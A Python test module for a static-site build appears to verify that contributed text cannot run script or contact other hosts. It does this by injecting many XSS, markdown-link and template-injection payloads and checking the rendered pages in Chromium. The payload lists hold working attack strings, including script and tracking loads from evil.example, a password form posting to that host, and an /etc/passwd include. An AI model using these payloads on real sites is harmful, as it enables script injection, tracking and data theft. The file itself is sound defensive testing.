"""Contributed text can do no harm: what an attacker writes, through the real build, into a real Chromium.

The checks refuse nearly all of it before anything is built. So here they are switched off, and the
content security policy too: the escaping of the templates and the sanitiser must hold alone. The
policy itself is tested in ``test_policy.py``.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from audit.host import Host
from playwright.sync_api import Browser, Page
from site_fixture import REPOSITORY, TODAY

SAMPLE = REPOSITORY / "tests/records/sample"
PARK = "content/practices/river-park.md"
PRIZE = "content/news/prize.md"

HTML = [
    "<script>pwn()</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=pwn()>",
    '<img src="https://evil.example/track.png">',
    '<img srcset="https://evil.example/track.png 2x" src=x>',
    '<svg onload="pwn()"><script>pwn()</script><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
    '<svg><animate xlink:href=#x attributeName=href values="javascript:pwn()"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="pwn()"></style></mglyph></table></mtext></math>',
    '<math href="javascript:pwn()">x</math>',
    '<iframe src="javascript:parent.pwn()"></iframe><iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
    '<object data="data:text/html,<script>parent.pwn()</script>"></object><embed src="https://evil.example/">',
    '<a href="javascript:pwn()">press</a> <a href="JaVa&#10;Script:pwn()">press</a>',
    '<a href="&#106;avascript:pwn()">press</a> <a href="\x01javascript:pwn()">press</a>',
    '<a href="data:text/html,<script>pwn()</script>">press</a> <a href="vbscript:pwn()">press</a>',
    '<a href="//evil.example/" target="_blank" ping="https://evil.example/ping">press</a>',
    '<a href="https://example.org/" onclick="pwn()" style="position:fixed;inset:0;z-index:9">press</a>',
    "<p style=\"background:url('https://evil.example/css.png')\">styled</p>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:pwn()">Go</button></form>',
    '<details open ontoggle="pwn()"><summary>x</summary></details>',
    '<video src="https://evil.example/v.mp4" onerror="pwn()" autoplay></video><audio src=x onerror=pwn()></audio>',
    '<div id="related" class="masthead">posing</div><img id="documentElement" name="body" src=x>',
    '<template><script>pwn()</script></template><noscript><p title="</noscript><img src=x onerror=pwn()>">',
    '<p title="`><img src=x onerror=pwn()>">x</p><xmp><img src=x onerror=pwn()></xmp>',
    "<!--><img src=x onerror=pwn()>--> <![CDATA[><img src=x onerror=pwn()>]]>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
]
MARKDOWN = [
    "[press](javascript:pwn())",
    "[press](<javascript:pwn()>)",
    "[press](&#x6A;avascript:pwn())",
    "[press](java\tscript:pwn())",
    "[press](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "[press][evil]\n\n[evil]: javascript:pwn()",
    "<javascript:pwn()>",
    "![x](https://evil.example/track.png)",
    '![x](x "onerror=pwn()")',
    '[press](https://example.org/"onmouseover="pwn())',
    "text{: onclick=pwn() style=color:red class=masthead id=glance }",
    "## Heading {: onmouseover=pwn() }",
    "`<script>pwn()</script>`",
    "```html\n<script>pwn()</script>\n```",
    "<div markdown=1>\n[press](javascript:pwn())\n</div>",
    "[^1]\n\n[^1]: <img src=x onerror=pwn()>",
    "| a |\n|---|\n| <img src=x onerror=pwn()> |",
    "\ue000\ue001\ue002",
]
TEMPLATES = [
    "{{ 191 * 7 }} {% include '/etc/passwd' %} {{ config.config_file_path }} {{ self.__init__.__globals__ }}",
    '--8<-- "mkdocs.yml"',
    "{! mkdocs.yml !}",
    "${191 * 7} #{191 * 7} <%= 191 * 7 %>",
]
BUILD = """
import re, sys
from pathlib import Path
import datetime as dt
from utm_exchange.catalogue import checking, file_checks
from utm_exchange.records import characters, hints, rules
hints._MARKED = characters._UNSEEN = re.compile("(?!)")
rules.RULES = ()
checking.missing_pictures = lambda *_: ()
file_checks.slips = lambda _: ()
from utm_exchange.building import build_checked
root = Path(sys.argv[1])
sys.exit(build_checked(root, root / "site", dt.datetime.fromisoformat(sys.argv[2]).replace(tzinfo=dt.UTC), strict=False))
"""


def settings(plugins: str) -> str:
    real = (REPOSITORY / "mkdocs.yml").read_text("utf-8")
    extensions = real[real.index("markdown_extensions:") : real.index("nav:")]
    return (
        f"site_name: Sample\ndocs_dir: content\ntheme: {{name: material, font: false}}\nplugins: [{plugins}]\n"
        f"{extensions}validation: {{nav: {{omitted_files: ignore}}, links: {{not_found: ignore, anchors: ignore, unrecognized_links: ignore}}}}\n"
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of the sample catalogue, every text of one practice and one page an attack."""
    root = tmp_path_factory.mktemp("attacked") / "catalogue"
    shutil.copytree(SAMPLE, root)
    plugins = "utm-catalogue, utm-pages, utm-indexes, utm-appearance, utm-crosslinks, utm-metadata"
    (root / "mkdocs.yml").write_text(settings(plugins), "utf-8")
    practice = (root / PARK).read_text("utf-8")
    quoted = HTML[2].replace('"', "'") + " {{ 191 * 7 }}"
    practice = practice.replace("title: A park that takes the flood", f'title: "{quoted}"')
    practice = practice.replace(
        "summary: The city", f"summary: \"'><script>pwn()</script> {TEMPLATES[0]} The city"
    )
    practice = practice.replace("a park.\n", 'a park."\n', 1)
    practice = practice.replace("lead: City of Riga", 'lead: "</title><script>pwn()</script>"')
    practice = practice.replace("unit: homes", "unit: \"homes' onmouseover='pwn()\"")
    practice = practice.replace("label: Homes", 'label: "<img src=x onerror=pwn()> Homes')
    practice = practice.replace("out of danger", 'out of danger"')
    practice = practice.replace("title: Ten years of", "title: </script><script>pwn()</script> Ten years of")
    attacks = "\n\n".join([*HTML, *MARKDOWN, *TEMPLATES])
    (root / PARK).write_text(f"{practice}\n{attacks}\n", "utf-8")
    (root / "content/index.md").write_text(f"---\ntitle: Sample\n---\n\n{attacks}\n", "utf-8")
    done = subprocess.run(
        [sys.executable, "-c", BUILD, str(root), TODAY], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return root / "site"


PAGES = [
    "index.html",
    "practices/river-park/index.html",
    "practices/index.html",
    "cities/riga/index.html",
    "news/prize/index.html",
]
HARMFUL = """() => {
  const found = [];
  for (const node of document.querySelectorAll('body *')) {
    if (['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'META', 'LINK', 'VIDEO', 'AUDIO', 'MATH', 'FOREIGNOBJECT', 'TEMPLATE'].includes(node.tagName.toUpperCase())) {
      if (!node.closest('header.site-header, footer.site-footer') && !(node.tagName === 'SCRIPT' && node.src.startsWith(location.origin === 'null' ? 'file:' : location.origin))) found.push(node.outerHTML);
    }
    for (const { name, value } of node.attributes) {
      if (name.startsWith('on') || ['style', 'srcdoc', 'srcset', 'ping', 'formaction', 'target', 'xlink:href'].includes(name)) found.push(`${node.tagName} ${name}=${value}`);
    }
    if (node.tagName === 'A' && node.hasAttribute('href') && !['http:', 'https:', 'mailto:', 'file:'].includes(node.protocol)) found.push(node.outerHTML);
  }
  return found;
}"""


@pytest.mark.parametrize("place", ["http", "file"])
def test_nothing_that_people_write_runs_or_asks_another_host(
    browser: Browser, attacked: Path, place: str
) -> None:
    with Host(attacked) as host, browser.new_context() as context:
        tab = context.new_page()
        asked: list[str] = []
        said: list[str] = []
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        tab.add_init_script("window.pwned = 0; window.pwn = () => { window.pwned += 1 }")
        for path in PAGES:
            address = (attacked / path).as_uri() if place == "file" else host.address + path
            tab.goto(address, wait_until="load")
            touch_everything(tab)
            assert tab.evaluate("window.pwned") == 0, path
            assert tab.evaluate(HARMFUL) == [], path
            assert tab.url.startswith(address.removesuffix("index.html")), path
        assert said == []
        assert {urlsplit(url).hostname for url in asked if not url.startswith(("file:", "data:"))} <= {
            "127.0.0.1",
            "localhost",
        }


def touch_everything(tab: Page) -> None:
    """Move over, focus and press what the text made, as a curious reader would; links stay where they are."""
    tab.evaluate("""() => {
      for (const node of document.querySelectorAll('main *')) {
        for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'error', 'load']) node.dispatchEvent(new Event(kind));
        const link = node.closest('a');
        if (!link || link.protocol === 'javascript:') node.click?.();
      }
    }""")


def test_no_template_reaches_contributed_text(attacked: Path) -> None:
    for page in attacked.rglob("*.html"):
        html = page.read_text("utf-8")
        assert "1337" not in html, page
        assert "root:x:0" not in html, page
        assert str(attacked.parent) not in html, page
        assert "site_name: Sample" not in html, page


def test_the_checks_refuse_every_attack_before_anything_is_built(folder: Any) -> None:
    text = folder.read(PRIZE)
    passed = []
    for attack in [*HTML, *MARKDOWN, *TEMPLATES]:
        folder.write(PRIZE, f"{text}\n{attack}\n")
        if not folder.check().errors:
            passed.append(attack)
    assert set(passed) <= HARMLESS


# Words, or code shown as code: nothing in them is lost or does anything.
HARMLESS = {
    "`<script>pwn()</script>`",
    "```html\n<script>pwn()</script>\n```",
    '[press](https://example.org/"onmouseover="pwn())',
    "${191 * 7} #{191 * 7} <%= 191 * 7 %>",
    '--8<-- "mkdocs.yml"',
    "{! mkdocs.yml !}",
    "## Heading {: onmouseover=pwn() }",
    "text{: onclick=pwn() style=color:red class=masthead id=glance }",
    "[press](java\tscript:pwn())",
}
